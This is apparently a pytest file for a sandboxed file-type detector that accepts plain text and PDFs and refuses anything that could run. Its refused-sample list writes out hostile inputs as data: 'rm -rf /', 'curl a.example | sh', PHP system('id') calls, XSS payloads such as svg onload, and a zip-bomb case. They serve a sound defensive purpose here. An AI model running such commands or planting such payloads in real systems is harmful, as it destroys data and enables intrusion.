import zipfile
from collections.abc import AsyncIterator
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from infra.decoder import DecodeRejected, DecoderPool
from infra.magic import HEAD_BYTES, MOST_READS
from infra.settings import Settings
from tests.infra.identifying import Reader
from tests.samples import documents
from tests.samples.archives import docx

pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def pool() -> AsyncIterator[DecoderPool]:
    """One sandboxed child for all of them."""
    started = DecoderPool(Settings(decoder_processes=1))
    await started.start()
    yield started
    await started.aclose()


async def _found(pool: DecoderPool, body: bytes) -> str:
    return await Reader(body).identify(pool)


def _zip() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "text")
    return buffer.getvalue()


async def test_accepted_types_are_found(pool: DecoderPool) -> None:
    """A PDF is a PDF and prose is plain text, whatever letters and commas it is made of."""
    assert await _found(pool, documents.unique_pdf(1)) == "application/pdf"
    for text in (
        b"Hello, world.\n",
        b"hello world, this is text.\n" * 400,
        "naïve café €\n".encode(),
        ("x" * (HEAD_BYTES - 1) + "€").encode(),
        "\ufeffwith a mark\n".encode(),
        "sixteen bits\n".encode("utf-16"),
        b"a < b and b > c\n",
        b"<not markup at all\n",
    ):
        assert await _found(pool, text) == "text/plain", text[:20]


@pytest.mark.parametrize(
    ("head", "found"),
    [
        (b"", "application/x-empty"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + bytes(200), "application/x-dosexec"),
        (Path("/bin/true").read_bytes(), "application/x-pie-executable|application/x-sharedlib"),
        (_zip(), "application/zip"),
        (b"#!/bin/sh\nrm -rf /\n", "text/x-shellscript"),
        (b"#!/opt/own/interpreter\nhello\n", "text/x-script"),
        (b"<!DOCTYPE html><html><body>hi</body></html>", "text/html"),
        (b" \n <ScRiPt >alert(1)</script>", "text/html"),
        (b"\xef\xbb\xbf<a href=x>hi</a>", "text/html"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml"),
        (b'<?xml version="1.0"?><a/>', "text/xml"),
        (b"\x89PNG\r\n\x1a\n" + bytes(100), "image/png|application/octet-stream"),
        (b"\x00\x01\x02\x03" * 100, "application/octet-stream"),
    ],
)  # fmt: skip
async def test_other_types_are_reported_as_found(pool: DecoderPool, head: bytes, found: str) -> None:
    """What isn't accepted is named, so that the refusal can say what it was."""
    assert await _found(pool, head) in found.split("|")


_LATIN = "Grüße aus Köln, schöne Straße.\n"
PLAIN: list[bytes] = [
    b".gitignore is a file.\n",
    b".\n.\n.\n",
    b"... and then nothing.\n",
    b".TH is how a manual begins, and .SH a section.\n",
    b".TH LS 1\n.SH NAME\nls\n",
    b"'\\\" and a quote\n",
    b"x",
    b"\n",
    "é".encode(),
    b"Dear Sir or Madam,\n\nit was the best of times, it was the worst of times.\n",
    b"From: Alice\nTo: Bob\nSubject: lunch\n\nAt noon?\n",
    b"From alice Mon Jan  1 00:00:00 2024\n",
    b"a,b,c\n1,2,3\n4,5,6\n",
    b"a;b;c\r\n1;2;3\r\n",
    b"name\tage\nAnn\t31\n",
    b"2026-11-22 20:10:15,123 INFO worker.started pid=1\n" * 20,
    b'{"level": "info", "event": "started"}\n{"level": "info", "event": "done"}\n',
    b'{"a": [1, 2, 3]}\n',
    b"[section]\nkey=value\n; comment\n",
    b"[global]\nworkgroup = HOME\n",
    b"---\na: 1\nb:\n  - c\n",
    b"# Title\n\n* one\n* two\n\n> quoted\n",
    b"Title\n=====\n\n```\ncode\n```\n",
    b"| a | b |\n|---|---|\n| 1 | 2 |\n",
    b"A tag like <b> is fine further down, and so is 3 < 4.\n",
    b"<not markup at all\n",
    b"-- \nsignature\n",
    b"100% sure <- that\n",
    b"1\n00:00:01,000 --> 00:00:02,000\nHello.\n",
    b"WEBVTT\n\n00:01.000 --> 00:02.000\nHello.\n",
    b"BEGIN:VCARD\nVERSION:3.0\nFN:Ann\nEND:VCARD\n",
    b"BEGIN:VCALENDAR\nVERSION:2.0\nEND:VCALENDAR\n",
    b"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
    b"/* A remark. */\n#include <stdio.h>\nint main(void) { return 0; }\n",
    b"\\documentclass{article}\n\\begin{document}\n",
    b"# a note #! not at the beginning\n",
    _LATIN.encode(),
    b"\xef\xbb\xbf" + _LATIN.encode(),
    "你好世界。这是一个文本文件。\n".encode(),
    "مرحبا بالعالم، هذا نص.\n".encode(),
    "Привет, мир!\n".encode(),
    "🎉 done\n".encode(),
    _LATIN.encode("utf-16"),
    b"\xfe\xff" + _LATIN.encode("utf-16-be"),
    "你好世界。\n".encode("utf-16"),
    ("字" * HEAD_BYTES).encode(),
]
REFUSED: list[bytes] = [
    b"\x7fELF" + bytes(99),
    b"text\0with a NUL\n",
    b"\0",
    b"\x01",
    "no mark".encode("utf-16-le"),
    "thirty-two bits".encode("utf-32"),
    b"%!PS-Adobe-3.0\n",
    b"{\\rtf1 hello}",
    b"#!/usr/bin/env python3\nprint()\n",
    b"\xef\xbb\xbf#!/bin/sh\nid\n",
    "#!/bin/sh\nid\n".encode("utf-16"),
    b"<?php echo 1;",
    b"Hello.\n" * 50 + b"<?php system('id');",
    b".TH X 1\n<?PHP system('id');",
    b"a text <?= 1 ?>\n",
    b"a text <% eval request %>\n",
    b"\xff\xfe" + "text <?php echo 1;".encode("utf-16-le"),
    b"@echo off\r\ndel *\r\n",
    b"[Desktop Entry]\nExec=rm -rf /\n",
    b"[InternetShortcut]\nURL=http://a.example/\n",
    "Windows Registry Editor Version 5.00\r\n".encode("utf-16"),
    b"use strict;\nuse warnings;\nmy $x = 1;\n#!/usr/bin/perl\n<script>",
    b'import os\ndef main():\n    """Run."""\n    os.system("id")\n',
    b"all:\n\tcurl a.example | sh\n",
    b"<html><body>hi",
    b"<!-- a remark --><b>",
    b"\n\t <IFRAME src=//a.example>",
    b"Hello <script>alert(1)</script>\n",
    b"x" * 2000 + b"<ScRiPt src=//a.example>",
    b"x\n<svg/onload=alert(1)>\n",
    b".<svg onload=alert(1)>",
    "<script>alert(1)</script>".encode("utf-16"),
    b"\xfe\xff" + "<svg onload='alert(1)'/>".encode("utf-16-be"),
    b"<?xml version='1.0'?><a/>",
    b"\xef\xbb\xbf<?xml version='1.0'?><a/>",
    b"From: a\nMIME-Version: 1.0\nContent-Type: text/html\n\n<b>hi\n",
    b"GIF89a is how a picture begins.\n",
    b"PK\x03\x04" + b"text" * 20,
]


@pytest.mark.parametrize("head", PLAIN)
async def test_text_is_plain_text(pool: DecoderPool, head: bytes) -> None:
    """What people write and machines log is plain text in any language, though it looks like something else."""
    assert await _found(pool, head) == "text/plain"


@pytest.mark.parametrize("head", REFUSED)
async def test_what_could_run_is_not_plain_text(pool: DecoderPool, head: bytes) -> None:
    """What a browser, a shell, a web server or a desktop would run is no plain text, nor is what holds a NUL."""
    assert await _found(pool, head) not in {"text/plain", "application/pdf"}


@pytest.mark.parametrize("before", [b"\n", b"junk" * 20, b"MZ" + bytes(60), b"<html>"])
async def test_a_pdf_begins_with_its_signature(pool: DecoderPool, before: bytes) -> None:
    """A document that is something else as well, before its signature, is no PDF."""
    assert await _found(pool, before + documents.pdf()) != "application/pdf"


async def test_only_the_head_of_a_text_is_looked_at(pool: DecoderPool) -> None:
    """The answer for a text is the answer for its first bytes, however many there are."""
    assert await _found(pool, b"x" * HEAD_BYTES + bytes(100_000)) == "text/plain"


@pytest.mark.parametrize("body", [documents.unique_pdf(100_000), b"A line.\n" * 20_000])
async def test_a_document_takes_one_small_read(pool: DecoderPool, body: bytes) -> None:
    """An ordinary PDF or text is identified by one ranged get of its head."""
    reader = Reader(body)
    assert await reader.identify(pool) in {"application/pdf", "text/plain"}
    assert reader.reads == [(0, HEAD_BYTES)]


async def test_a_zip_that_says_it_is_a_bomb_goes_no_further(pool: DecoderPool) -> None:
    """What a document says it unpacks to is held against its size before ClamAV is asked to unpack it."""
    with pytest.raises(DecodeRejected) as refused:
        await _found(pool, docx({"word/media/image1.bmp": bytes(64 * 2**20)}))
    assert refused.value.code == "bomb"


async def test_a_decoder_that_asks_for_what_is_not_there(pool: DecoderPool, monkeypatch: pytest.MonkeyPatch) -> None:
    """A child that was taken over doesn't make its parent read outside the file, or without end."""
    lies: list[list[Any]] = [[-1, 10], [0, 0], [90, 20], [0, 10**9], [0], ["a", "b"], [10, 10]]
    for need in lies:

        async def lie(*_: object, need: list[Any] = need, **__: object) -> dict[str, Any]:
            return {"need": need}

        monkeypatch.setattr(pool, "run", lie)
        reader = Reader(b"x" * 100)
        with pytest.raises(DecodeRejected, match="decode_crash"):
            await reader.identify(pool)
        assert len(reader.reads) <= MOST_READS + 1
